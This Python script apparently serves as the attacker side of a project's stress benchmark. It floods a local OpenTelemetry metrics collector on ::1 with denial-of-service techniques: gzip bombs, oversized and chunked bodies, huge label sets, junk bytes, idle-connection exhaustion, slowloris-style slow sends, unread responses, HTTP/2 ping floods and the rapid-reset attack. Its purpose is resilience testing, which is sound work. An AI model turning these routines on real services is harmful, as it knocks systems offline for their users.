"""Those who mean no good, for tests/bench/attack.py: each function attacks the ports of this machine until the time given and uses standard
library alone. They come from ::1, so that the service tells them from those who come from 127.0.0.1.

  python3 attackers.py NAME GRPC_PORT HTTP_PORT SECONDS
"""

import gzip
import os
import random
import resource
import socket
import struct
import sys
import threading
import time

HOST = "::1"
EXPORT = "/opentelemetry.proto.collector.metrics.v1.MetricsService/Export"


def connect(port):
    client = socket.create_connection((HOST, port), timeout=10)
    client.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
    return client


def head(path, length, *headers):
    lines = [f"POST {path} HTTP/1.1", "Host: t", "Content-Type: application/x-protobuf", *headers]
    if length is not None:
        lines.append(f"Content-Length: {length}")
    return ("\r\n".join(lines) + "\r\n\r\n").encode()


def repeat(until, once):
    """Does `once` again and again, whatever becomes of it."""
    while time.monotonic() < until:
        try:
            once()
        except OSError:
            time.sleep(0.01)


def in_threads(count, until, once):
    threads = [threading.Thread(target=repeat, args=(until, once)) for _ in range(count)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()


def posts(port, path, bodies, until, *headers, threads=8):
    """Requests one after the other, each on a connection of its own, since a refusal closes it."""
    def once():
        with connect(port) as client:
            body = random.choice(bodies)
            client.sendall(head(path, len(body), *headers) + body)
            client.recv(65536)
    in_threads(threads, until, once)


# --- protobuf and HTTP/2, as much as is needed


def varint(value):
    out = b""
    while value > 0x7f:
        out += bytes([value & 0x7f | 0x80])
        value >>= 7
    return out + bytes([value])


def field(number, payload):
    return varint(number << 3 | 2) + varint(len(payload)) + payload


def gauge(attributes):
    """A request with one point of one gauge."""
    point = b"".join(field(7, field(1, name) + field(2, field(1, value))) for name, value in attributes)
    point += b"\x19" + struct.pack("<Q", time.time_ns()) + b"\x21" + struct.pack("<d", 1)
    return field(1, field(2, field(2, field(1, b"evil") + field(5, field(1, point)))))


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def literal(name, value):
    return b"\x00" + bytes([len(name)]) + name + bytes([len(value)]) + value


PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(4, 0, 0)
CALL = (literal(b":method", b"POST") + literal(b":scheme", b"http") + literal(b":path", EXPORT.encode()) +
        literal(b":authority", b"t") + literal(b"content-type", b"application/grpc") + literal(b"te", b"trailers"))


def read_all(client):
    """Forgets what comes, so that the other side is never kept waiting."""
    def run():
        try:
            while client.recv(65536):
                pass
        except OSError:
            pass
    threading.Thread(target=run, daemon=True).start()


def http2(port, until, frames, threads=4):
    """`frames(stream)` again and again on connections of HTTP/2, each with the next stream's number."""
    def once():
        with connect(port) as client:
            read_all(client)
            client.sendall(PREFACE)
            for stream in range(1, 1 << 20, 2):
                if time.monotonic() > until:
                    return
                client.sendall(frames(stream))
    in_threads(threads, until, once)


# --- the attacks


def gzip_bombs(_, http, until):
    posts(http, "/v1/metrics", [gzip.compress(bytes(200 << 20))], until, "Content-Encoding: gzip")


def gzip_bombs_grpc(grpc, _, until):
    bomb = gzip.compress(bytes(60 << 20))  # below the window that a stream begins with
    message = b"\x01" + struct.pack(">I", len(bomb)) + bomb
    data = [message[i:i + 16384] for i in range(0, len(message), 16384)]

    def once():
        with connect(grpc) as client:
            client.sendall(PREFACE + frame(1, 4, 1, CALL + literal(b"grpc-encoding", b"gzip")))
            for piece in data:
                client.sendall(frame(0, 1 if piece is data[-1] else 0, 1, piece))
            client.settimeout(2)
            while b"grpc-status" not in client.recv(65536):
                pass
    in_threads(8, until, once)


def oversize(_, http, until):
    piece = b"%x\r\n" % (1 << 20) + bytes(1 << 20) + b"\r\n"

    def once():
        with connect(http) as client:
            if random.random() < 0.5:
                client.sendall(head("/v1/metrics", 10 << 30) + piece)
            else:
                client.sendall(head("/v1/metrics", None, "Transfer-Encoding: chunked"))
                for _ in range(200):
                    client.sendall(piece)
            client.recv(65536)
    in_threads(8, until, once)


def many_labels(_, http, until):
    posts(http, "/v1/metrics", [gauge([(b"l%d" % i, b"v") for i in range(1_000_000)])], until, threads=4)


def large_labels(_, http, until):
    posts(http, "/v1/metrics", [gauge([(b"l", random.randbytes(8).hex().encode() + b"x" * (1 << 20))]) for _ in range(8)], until)


def junk(_, http, until):
    bodies = [random.randbytes(1 << size) for size in range(4, 22)]
    posts(http, "/v1/metrics", bodies + [b"\x0a" * 1_000_000], until)


def junk_bytes(grpc, http, until):
    """No HTTP at all, at both ports."""
    def once():
        with connect(random.choice([grpc, http])) as client:
            client.sendall(random.randbytes(1 << random.randrange(1, 16)))
            client.recv(65536)
    in_threads(8, until, once)


def idle(grpc, http, until):
    _, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
    clients = [connect(http) for _ in range(10_000)] + [connect(grpc) for _ in range(1_000)]
    time.sleep(max(0, until - time.monotonic()))
    return clients


def slow(_, http, until):
    """Headers and bodies that come a byte a second."""
    clients = []
    for i in range(1000):
        client = connect(http)
        client.sendall(b"POST /v1/met" if i % 2 else head("/v1/metrics", 60_000_000) + b"\x0a")
        clients.append(client)
    while time.monotonic() < until:
        for client in clients:
            try:
                client.sendall(b"a")
            except OSError:
                pass
        time.sleep(1)


def never_read(_, http, until):
    """Asks and never takes the answers."""
    body = gauge([(b"a", b"b")])
    clients = [connect(http) for _ in range(500)]
    for client in clients:
        client.setblocking(False)
    while time.monotonic() < until:
        for client in clients:
            try:
                client.send(head("/v1/metrics", len(body)) + body)
            except OSError:
                pass
        time.sleep(0.01)


def pings(grpc, _, until):
    http2(grpc, until, lambda stream: b"".join(frame(6, 0, 0, os.urandom(8)) for _ in range(100)))


def rapid_reset(grpc, _, until):
    """Calls that are taken back as soon as they are made."""
    http2(grpc, until, lambda stream: frame(1, 4, stream, CALL) + frame(3, 0, stream, struct.pack(">I", 8)))


ATTACKS = {attack.__name__: attack for attack in (
    gzip_bombs, gzip_bombs_grpc, oversize, many_labels, large_labels, junk, junk_bytes, idle, slow, never_read, pings, rapid_reset)}

if __name__ == "__main__":
    ATTACKS[sys.argv[1]](int(sys.argv[2]), int(sys.argv[3]), time.monotonic() + float(sys.argv[4]))
